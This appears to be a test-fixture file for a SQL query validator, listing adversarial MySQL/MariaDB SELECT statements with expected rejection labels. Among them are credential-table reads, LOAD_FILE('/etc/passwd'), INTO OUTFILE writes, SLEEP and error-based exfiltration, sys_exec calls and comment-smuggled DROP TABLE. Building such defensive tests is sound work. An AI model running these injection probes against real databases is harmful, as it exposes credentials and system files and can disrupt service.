SELECT * FROM `credentials`

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT * FROM {db}.credentials

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT * FROM `{db}`.`credentials`

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT * FROM CREDENTIALS

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT * FROM .credentials

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT * FROM mysql.user

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT * FROM mysql.global_priv

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT * FROM mysql.db

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT * FROM mysql.column_stats

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT * FROM mysql.innodb_table_stats

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT * FROM `mysql`.`user`

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT id FROM customers STRAIGHT_JOIN credentials USING (id)

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT customers.* , credentials.* FROM customers, credentials

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT id FROM customers ORDER BY `token`

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT id FROM customers GROUP BY token

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT GROUP_CONCAT(token) FROM customers

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT GROUP_CONCAT(id ORDER BY token) FROM customers

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT id FROM customers HAVING token IS NOT NULL

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT id FROM customers PROCEDURE ANALYSE()

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT * FROM customers PARTITION (p0)

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT token FROM customers USE INDEX (PRIMARY)

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT (SELECT password_hash FROM credentials LIMIT 1)

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT id FROM customers WHERE id IN (SELECT id FROM credentials)

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
WITH customers AS (SELECT * FROM credentials) SELECT * FROM customers

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
WITH c AS (SELECT token AS t FROM customers) SELECT t FROM c

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT * FROM customers c JOIN LATERAL (SELECT token) x

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT `customers`.`token ` FROM customers

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT * FROM `customers `.x

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT name FROM customers WHERE MATCH (token) AGAINST ('x')

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT MATCH (name) AGAINST ('CANARY' IN BOOLEAN MODE) FROM customers

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM information_schema.tables

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM information_schema.columns

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM INFORMATION_SCHEMA.COLUMNS

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM information_schema.processlist

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM information_schema.column_statistics

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM information_schema.views

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM information_schema.user_privileges

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM information_schema.innodb_trx

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM information_schema.statistics

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM information_schema.key_column_usage

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM `information_schema`.`tables`

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM performance_schema.events_statements_history

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM performance_schema.threads

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM sys.session

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM sys.schema_table_statistics

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM seq_1_to_10

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM information_schema.innodb_buffer_page

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM information_schema.system_variables

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM information_schema.files

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM information_schema.plugins

-- catalogue | unknown-name,not-supported,syntax,function-refused
SELECT * FROM DUAL, mysql.user

-- comment that runs | not-supported,syntax,unknown-name,many-statements
SELECT /*! token */ FROM customers

-- comment that runs | not-supported,syntax,unknown-name,many-statements
SELECT id /*!, token */ FROM customers

-- comment that runs | not-supported,syntax,unknown-name,many-statements
SELECT id /*!50000 , token */ FROM customers

-- comment that runs | not-supported,syntax,unknown-name,many-statements
SELECT id /*!99999999 , token */ FROM customers

-- comment that runs | not-supported,syntax,unknown-name,many-statements
SELECT id /*M! , token */ FROM customers

-- comment that runs | not-supported,syntax,unknown-name,many-statements
SELECT id /*M!100000 , token */ FROM customers

-- comment that runs | not-supported,syntax,unknown-name,many-statements
SELECT /*+ SET_VAR(sql_mode='') */ 1

-- comment that runs | not-supported,syntax,unknown-name,many-statements
SELECT /*+ MAX_EXECUTION_TIME(0) */ 1

-- comment that runs | not-supported,syntax,unknown-name,many-statements
SELECT 1 /*!; DROP TABLE customers */

-- comment that runs | not-supported,syntax,unknown-name,many-statements
SELECT 1 UNION /*! SELECT token FROM customers */ SELECT 2

-- comment that runs | not-supported,syntax,unknown-name,many-statements
/*! SELECT */ token FROM customers

-- comment that runs | not-supported,syntax,unknown-name,many-statements
SELECT '/*' /*!, token */ FROM customers

-- comment that runs | not-supported,syntax,unknown-name,many-statements
SELECT id FROM customers /*!WHERE 1*/

-- comment that runs | not-supported,syntax,unknown-name,many-statements
SELECT /*!*/ token FROM customers

-- parser differential | safe
SELECT 'a\\' AS x, ' , token FROM customers -- '

-- parser differential | safe
SELECT 'a\' , token FROM customers -- ' AS x

-- parser differential | safe
SELECT "a' , token FROM customers -- "

-- parser differential | safe
SELECT 'a' 'b' '\'' 'c'

-- parser differential | safe
SELECT 'a''b\'c'

-- parser differential | safe
SELECT '\%' LIKE '\%'

-- parser differential | safe
SELECT 'x' -- token
, id FROM customers LIMIT 1

-- parser differential | safe
SELECT 1--1

-- parser differential | safe
SELECT 1-- 1

-- parser differential | safe
SELECT 5 # token

-- parser differential | safe
SELECT 1#
+1

-- parser differential | safe
SELECT id FROM customers WHERE name = 'x' or/**/1=1

-- parser differential | safe
SELECT '\0\Z\b\n'

-- parser differential | safe
SELECT '¿\' OR 1=1 -- '

-- parser differential | safe
SELECT `a``b` FROM (SELECT 1 AS `a``b`) AS t

-- parser differential | safe
SELECT '\u0027 OR 1=1'

-- parser differential | safe
SELECT N'x'

-- parser differential | safe
SELECT _utf8'x'

-- parser differential | safe
SELECT _binary'x'

-- parser differential | safe
SELECT _utf8mb4 0x746f6b656e

-- parser differential | safe
SELECT 0x746f6b656e

-- parser differential | safe
SELECT X'746f6b656e'

-- parser differential | safe
SELECT b'01100001'

-- parser differential | safe
SELECT .1e1token FROM customers

-- parser differential | safe
SELECT 1e1token FROM customers

-- parser differential | safe
SELECT id.token FROM customers

-- parser differential | safe
SELECT {d '2026-01-01'}

-- parser differential | safe
SELECT {fn NOW()}

-- parser differential | safe
SELECT {x token} FROM customers

-- parser differential | safe
SELECT @`token`

-- parser differential | safe
SELECT @a:=token FROM customers

-- parser differential | safe
SELECT token:=1 FROM customers

-- parser differential | safe
SELECT @@GLOBAL.datadir

-- parser differential | safe
SELECT @@version_compile_os

-- parser differential | safe
SELECT @@session.sql_mode

-- parser differential | safe
SELECT id INTO @x FROM customers

-- parser differential | safe
SELECT id FROM customers INTO OUTFILE '/tmp/x'

-- parser differential | safe
SELECT id FROM customers INTO DUMPFILE '/tmp/x'

-- parser differential | safe
SELECT * FROM customers LIMIT 1 INTO @a, @b

-- parser differential | safe
SELECT SQL_NO_CACHE id FROM customers

-- parser differential | safe
SELECT SQL_CALC_FOUND_ROWS id FROM customers

-- parser differential | safe
SELECT HIGH_PRIORITY id FROM customers

-- parser differential | safe
SELECT DISTINCTROW city FROM customers

-- parser differential | safe
SELECT STRAIGHT_JOIN id FROM customers

-- parser differential | safe
SELECT id FROM customers LOCK IN SHARE MODE

-- parser differential | safe
SELECT id FROM customers FOR UPDATE NOWAIT

-- parser differential | safe
SELECT id FROM customers FOR SYSTEM_TIME ALL

-- parser differential | safe
SELECT NEXT VALUE FOR s

-- parser differential | safe
SELECT NEXTVAL(s)

-- parser differential | safe
SELECT PREVIOUS VALUE FOR s

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT SLEEP(5)

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT BENCHMARK(100000000, MD5('x'))

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT GET_LOCK('x', 1)

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT RELEASE_LOCK('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT IS_FREE_LOCK('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT IS_USED_LOCK('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT RELEASE_ALL_LOCKS()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT LOAD_FILE('/etc/passwd')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT EXTRACTVALUE(1, CONCAT('~', (SELECT MAX(name) FROM customers)))

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT UPDATEXML(1, CONCAT('~', 'x'), 1)

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT USER()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT CURRENT_USER()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT CURRENT_USER

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT SESSION_USER()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT SYSTEM_USER()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT DATABASE()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT SCHEMA()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT VERSION()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT CONNECTION_ID()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT LAST_INSERT_ID()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT ROW_COUNT()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT FOUND_ROWS()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT UUID_SHORT()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT MASTER_POS_WAIT('x', 1)

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT MASTER_GTID_WAIT('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT WAIT_FOR_EXECUTED_GTID_SET('x', 1)

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT GTID_SUBSET('x', 'y')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT NAME_CONST('x', 1)

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT CURRENT_ROLE()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT AES_DECRYPT('x', 'y')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT AES_ENCRYPT('x', 'y')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT ENCRYPT('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT PASSWORD('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT OLD_PASSWORD('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT DES_DECRYPT('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT COMPRESS('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT UNCOMPRESS('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT RANDOM_BYTES(10)

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT ST_GeomFromText('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT ST_AsText(1)

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT sys_eval('id')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT sys_exec('id')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT lib_mysqludf_sys_info()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT COLUMN_GET('x', 'y' AS CHAR)

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT COLUMN_JSON('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT DECODE('x', 'y')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT ENCODE('x', 'y')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT LASTVAL(s)

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT SETVAL(s, 1)

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT mysql.x()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT {db}.f()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT ROWNUM()

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT COERCIBILITY('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT COLLATION('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT CHARSET('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT GET_FORMAT(DATE, 'USA')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT WEIGHT_STRING('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT SFORMAT('{}', 1)

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT NATURAL_SORT_KEY('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT JSON_TABLE('[1]', '$[*]' COLUMNS (a INT PATH '$'))

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT INTERVAL(1, 2, 3)

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT VALUES(id) FROM customers

-- dangerous function, select list | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT DEFAULT(id) FROM customers

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id FROM products WHERE SLEEP(9) IS NOT NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id FROM products WHERE LOAD_FILE('/etc/passwd') IS NOT NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id FROM products WHERE USER() IS NOT NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id FROM products ORDER BY SLEEP(9)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id FROM products ORDER BY LOAD_FILE('/etc/passwd')

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id FROM products ORDER BY USER()

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT COUNT(*) FROM products GROUP BY SLEEP(9)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT COUNT(*) FROM products GROUP BY LOAD_FILE('/etc/passwd')

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT COUNT(*) FROM products GROUP BY USER()

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT COUNT(*) FROM products HAVING SLEEP(9) IS NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT COUNT(*) FROM products HAVING LOAD_FILE('/etc/passwd') IS NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT COUNT(*) FROM products HAVING USER() IS NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 1 FROM products p JOIN orders o ON SLEEP(9) IS NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 1 FROM products p JOIN orders o ON LOAD_FILE('/etc/passwd') IS NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 1 FROM products p JOIN orders o ON USER() IS NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT (SELECT SLEEP(9))

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT (SELECT LOAD_FILE('/etc/passwd'))

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT (SELECT USER())

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT COALESCE(SLEEP(9), NULL)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT COALESCE(LOAD_FILE('/etc/passwd'), NULL)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT COALESCE(USER(), NULL)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT CASE WHEN SLEEP(9) IS NULL THEN 1 END

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT CASE WHEN LOAD_FILE('/etc/passwd') IS NULL THEN 1 END

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT CASE WHEN USER() IS NULL THEN 1 END

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT ROW_NUMBER() OVER (PARTITION BY SLEEP(9)) FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT ROW_NUMBER() OVER (PARTITION BY LOAD_FILE('/etc/passwd')) FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT ROW_NUMBER() OVER (PARTITION BY USER()) FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
WITH x AS (SELECT SLEEP(9) AS a) SELECT * FROM x

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
WITH x AS (SELECT LOAD_FILE('/etc/passwd') AS a) SELECT * FROM x

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
WITH x AS (SELECT USER() AS a) SELECT * FROM x

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 1 UNION SELECT 1 FROM products WHERE SLEEP(9) IS NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 1 UNION SELECT 1 FROM products WHERE LOAD_FILE('/etc/passwd') IS NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 1 UNION SELECT 1 FROM products WHERE USER() IS NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id FROM products LIMIT SLEEP(9)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id FROM products LIMIT LOAD_FILE('/etc/passwd')

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id FROM products LIMIT USER()

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id FROM products LIMIT 1 OFFSET SLEEP(9)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id FROM products LIMIT 1 OFFSET LOAD_FILE('/etc/passwd')

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id FROM products LIMIT 1 OFFSET USER()

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT GROUP_CONCAT(name ORDER BY SLEEP(9)) FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT GROUP_CONCAT(name ORDER BY LOAD_FILE('/etc/passwd')) FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT GROUP_CONCAT(name ORDER BY USER()) FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT ABS(SLEEP(9))

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT ABS(LOAD_FILE('/etc/passwd'))

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT ABS(USER())

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id FROM products WHERE id IN (SLEEP(9))

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id FROM products WHERE id IN (LOAD_FILE('/etc/passwd'))

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id FROM products WHERE id IN (USER())

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id BETWEEN SLEEP(9) AND 3 FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id BETWEEN LOAD_FILE('/etc/passwd') AND 3 FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT id BETWEEN USER() AND 3 FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 'a' LIKE SLEEP(9)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 'a' LIKE LOAD_FILE('/etc/passwd')

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 'a' LIKE USER()

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 'a' RLIKE SLEEP(9)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 'a' RLIKE LOAD_FILE('/etc/passwd')

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 'a' RLIKE USER()

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT NOW() + INTERVAL SLEEP(9) SECOND

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT NOW() + INTERVAL LOAD_FILE('/etc/passwd') SECOND

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT NOW() + INTERVAL USER() SECOND

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT IF(SLEEP(9), 1, 2)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT IF(LOAD_FILE('/etc/passwd'), 1, 2)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT IF(USER(), 1, 2)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT CAST(SLEEP(9) AS CHAR)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT CAST(LOAD_FILE('/etc/passwd') AS CHAR)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT CAST(USER() AS CHAR)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT CONVERT(SLEEP(9) USING utf8mb4)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT CONVERT(LOAD_FILE('/etc/passwd') USING utf8mb4)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT CONVERT(USER() USING utf8mb4)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT EXISTS (SELECT SLEEP(9))

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT EXISTS (SELECT LOAD_FILE('/etc/passwd'))

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT EXISTS (SELECT USER())

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT SUM(SLEEP(9)) OVER () FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT SUM(LOAD_FILE('/etc/passwd')) OVER () FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT SUM(USER()) OVER () FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT * FROM (SELECT SLEEP(9) AS a) AS x

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT * FROM (SELECT LOAD_FILE('/etc/passwd') AS a) AS x

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT * FROM (SELECT USER() AS a) AS x

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT -SLEEP(9)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT -LOAD_FILE('/etc/passwd')

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT -USER()

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT NOT SLEEP(9)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT NOT LOAD_FILE('/etc/passwd')

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT NOT USER()

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT SLEEP(9) <=> 1

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT LOAD_FILE('/etc/passwd') <=> 1

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT USER() <=> 1

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 1 XOR SLEEP(9)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 1 XOR LOAD_FILE('/etc/passwd')

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 1 XOR USER()

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 1 DIV SLEEP(9)

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 1 DIV LOAD_FILE('/etc/passwd')

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT 1 DIV USER()

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT JSON_EXTRACT('{}', SLEEP(9))

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT JSON_EXTRACT('{}', LOAD_FILE('/etc/passwd'))

-- dangerous function, every position | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT JSON_EXTRACT('{}', USER())

-- function by another spelling | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT `SLEEP`(9)

-- function by another spelling | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT sleep (9)

-- function by another spelling | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT SLEEP/**/(9)

-- function by another spelling | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT sLeEp(9)

-- function by another spelling | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT mysql.SLEEP(9)

-- function by another spelling | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT {db}.SLEEP(9)

-- function by another spelling | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT `LOAD_FILE`('/etc/passwd')

-- function by another spelling | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT "SLEEP"(9)

-- function by another spelling | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT ST_Latitude(1)

-- function by another spelling | function-refused,not-supported,unknown-name,syntax,bad-params
SELECT sys.version_major()

-- masked column through an expression | safe
SELECT CONCAT(name, '') FROM customers

-- masked column through an expression | safe
SELECT CONCAT_WS('', name, phone, email) FROM customers

-- masked column through an expression | safe
SELECT GROUP_CONCAT(name SEPARATOR '|') FROM customers

-- masked column through an expression | safe
SELECT GROUP_CONCAT(DISTINCT phone ORDER BY phone) FROM customers

-- masked column through an expression | safe
SELECT HEX(name), TO_BASE64(phone), QUOTE(email) FROM customers

-- masked column through an expression | safe
SELECT REVERSE(name), SUBSTRING(name, 5), MID(name, 2, 9), RIGHT(name, 40) FROM customers

-- masked column through an expression | safe
SELECT CAST(name AS BINARY), CONVERT(name USING latin1), CAST(name AS CHAR(200)) FROM customers

-- masked column through an expression | safe
SELECT name COLLATE utf8mb4_bin, BINARY name FROM customers

-- masked column through an expression | safe
